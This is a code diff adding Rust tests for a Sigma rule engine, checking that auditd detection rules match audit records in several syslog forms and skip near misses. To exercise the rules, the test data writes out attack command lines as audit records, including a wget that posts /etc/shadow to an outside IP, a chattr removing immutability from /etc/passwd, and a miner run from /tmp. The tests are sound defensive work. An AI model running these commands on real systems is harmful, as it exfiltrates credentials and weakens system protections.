@@ -632,3 +632,183 @@ detection:
     );
     assert!(e.contains("bad.yml") && e.contains("not a number"), "{e}");
 }
+
+/// `service: auditd` takes an audit record in every form it reaches syslog in, whatever the tag;
+/// and only audit records (or the audit daemons' own messages).
+#[test]
+fn auditd_rules_take_audit_records_in_every_form() {
+    let r = rule(
+        r#"
+title: account made
+logsource: {product: linux, service: auditd}
+detection:
+    syscall:
+        type: SYSCALL
+        exe|endswith: '/useradd'
+    added:
+        type: ADD_USER
+    condition: 1 of syscall or added
+"#,
+    );
+    let syscall = r#"type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1000 pid=1234 auid=1000 uid=0 comm="useradd" exe="/usr/sbin/useradd" key=(null)"#;
+    let added = r#"type=ADD_USER msg=audit(1700000000.200:4243): pid=1234 uid=0 auid=1000 ses=3 msg='op=adding user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'"#;
+    for line in [
+        // audit 3's syslog plugin.
+        format!("<85>Nov 22 10:00:00 web1 audisp-syslog: {syscall}"),
+        // audit 2's dispatcher, with the node name first.
+        format!("<85>Nov 22 10:00:00 web1 audispd: node=web1 {added}"),
+        // rsyslog's imfile reading /var/log/audit/audit.log under a tag of its choosing.
+        format!("<13>Nov 22 10:00:00 web1 auditlog: {syscall}"),
+        format!("<13>1 2026-11-22T10:00:00Z web1 tail - - - {added}"),
+    ] {
+        assert!(fires_both(&r, &line), "{line}");
+    }
+    // The same words outside an audit record, from another app: not the service's.
+    assert!(!fires_both(
+        &r,
+        "<13>Nov 22 10:00:00 web1 tailer: note type=ADD_USER exe=/usr/sbin/useradd"
+    ));
+
+    // The kernel's own lines: `audit:` and the stamp without `msg=`, after its timestamp.
+    let avc = rule(
+        r#"
+title: apparmor denial
+logsource: {product: linux, service: auditd}
+detection:
+    sel: {type: '1400', apparmor: DENIED}
+    condition: sel
+"#,
+    );
+    let kernel = r#"<4>Nov 22 10:00:00 web1 kernel: [ 1234.567890] audit: type=1400 audit(1700000000.400:4245): apparmor="DENIED" operation="exec" profile="snap.x" name="/bin/sh" pid=77 comm="x""#;
+    assert!(fires_both(&avc, kernel));
+    let e = parse(kernel.as_bytes(), &ParseOptions::default());
+    let stamp = e.fields().find(|f| f.key == b"audit").map(|f| f.value);
+    assert_eq!(stamp, Some(&b"1700000000.400:4245"[..]));
+}
+
+/// Every SigmaHQ auditd rule shipped in `rules/sigma-auditd/` loads unchanged and fires on an
+/// audit record it is written for (in one of the forms audit records reach syslog in), not on a
+/// near miss, and none fires on the LogHub samples.
+#[test]
+fn every_sigmahq_auditd_rule_loads_and_fires_on_its_record() {
+    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-auditd"));
+    let loaded = load_dir(dir, &LogsourceMap::default());
+    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
+    let rules = loaded.rules;
+    assert_eq!(rules.len(), 8);
+    let plugin = |record: &str| format!("<85>Nov 22 10:00:00 web1 audisp-syslog: {record}");
+    let node = |record: &str| format!("<85>Nov 22 10:00:00 web1 audispd: node=web1 {record}");
+    let imfile = |record: &str| format!("<13>Nov 22 10:00:00 web1 audit.log: {record}");
+    let syscall = |comm: &str, exe: &str| {
+        format!(
+            "type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes \
+             exit=0 a0=55d5 a1=55d6 a2=55d7 a3=0 items=2 ppid=1000 pid=1234 auid=1000 uid=0 \
+             gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"{comm}\" \
+             exe=\"{exe}\" key=(null)"
+        )
+    };
+    let execve = |args: &[&str]| {
+        let mut r = format!(
+            "type=EXECVE msg=audit(1700000000.124:4242): argc={}",
+            args.len()
+        );
+        for (i, a) in args.iter().enumerate() {
+            r.push_str(&format!(" a{i}=\"{a}\""));
+        }
+        r
+    };
+    let path = |name: &str| {
+        format!(
+            "type=PATH msg=audit(1700000000.125:4242): item=0 name=\"{name}\" inode=393 \
+             dev=fd:00 mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"
+        )
+    };
+    let service_stop = |unit: &str| {
+        format!(
+            "type=SERVICE_STOP msg=audit(1700000000.126:4243): pid=1 uid=0 auid=4294967295 \
+             ses=4294967295 msg='unit={unit} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" \
+             hostname=? addr=? terminal=? res=success'"
+        )
+    };
+    // (file, a record it is written for, a near miss)
+    let cases = [
+        (
+            "lnx_auditd_auditing_config_change.yml",
+            plugin(&path("/etc/audit/auditd.conf")),
+            plugin(&path("/etc/auditd.conf.bak")),
+        ),
+        (
+            "lnx_auditd_binary_padding.yml",
+            node(&execve(&["truncate", "-s", "+5M", "/usr/bin/ls"])),
+            node(&execve(&["dd", "if=/dev/zero", "of=/tmp/x"])),
+        ),
+        (
+            "lnx_auditd_chattr_immutable_removal.yml",
+            imfile(&execve(&["chattr", "-i", "/etc/passwd"])),
+            imfile(&execve(&["chattr", "+i", "/etc/passwd"])),
+        ),
+        (
+            "lnx_auditd_create_account.yml",
+            plugin(&syscall("useradd", "/usr/sbin/useradd")),
+            plugin(&syscall("usermod", "/usr/sbin/usermod")),
+        ),
+        (
+            "lnx_auditd_data_exfil_wget.yml",
+            node(&execve(&[
+                "wget",
+                "--post-file=/etc/shadow",
+                "http://198.51.100.9/",
+            ])),
+            node(&execve(&["wget", "http://198.51.100.9/index.html"])),
+        ),
+        (
+            "lnx_auditd_disable_system_firewall.yml",
+            plugin(&service_stop("firewalld")),
+            plugin(&service_stop("cups")),
+        ),
+        (
+            "lnx_auditd_load_module_insmod.yml",
+            imfile(&syscall("insmod", "/usr/bin/kmod")),
+            imfile(&syscall("lsmod", "/usr/bin/kmod")),
+        ),
+        (
+            "lnx_auditd_susp_exe_folders.yml",
+            plugin(&syscall("x", "/tmp/.x/miner")),
+            plugin(&syscall("ls", "/usr/bin/ls")),
+        ),
+    ];
+    for (file, hit, miss) in &cases {
+        let r = rules
+            .iter()
+            .find(|r| r.file.ends_with(file))
+            .unwrap_or_else(|| panic!("{file} not loaded"));
+        assert!(fires_both(r, hit), "{file} misses {hit:?}");
+        assert!(!fires_both(r, miss), "{file} fires on {miss:?}");
+    }
+    // The same commands as plain shell history, not audit records: not the service's.
+    let r = rules
+        .iter()
+        .find(|r| r.file.ends_with("lnx_auditd_chattr_immutable_removal.yml"))
+        .unwrap();
+    assert!(!fires_both(
+        r,
+        "<13>Nov 22 10:00:00 web1 bash[1]: type=EXECVE a0=chattr a1=-i"
+    ));
+    let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/loghub/");
+    for f in [
+        "Linux_2k.log",
+        "OpenSSH_2k.log",
+        "HDFS_2k.log",
+        "Apache_2k.log",
+    ] {
+        for line in std::fs::read_to_string(format!("{data}{f}"))
+            .unwrap()
+            .lines()
+        {
+            let e = parse(line.as_bytes(), &ParseOptions::default());
+            for r in &rules {
+                assert!(!r.matches(&e), "{} fires on {f}: {line}", r.file);
+            }
+        }
+    }
+}
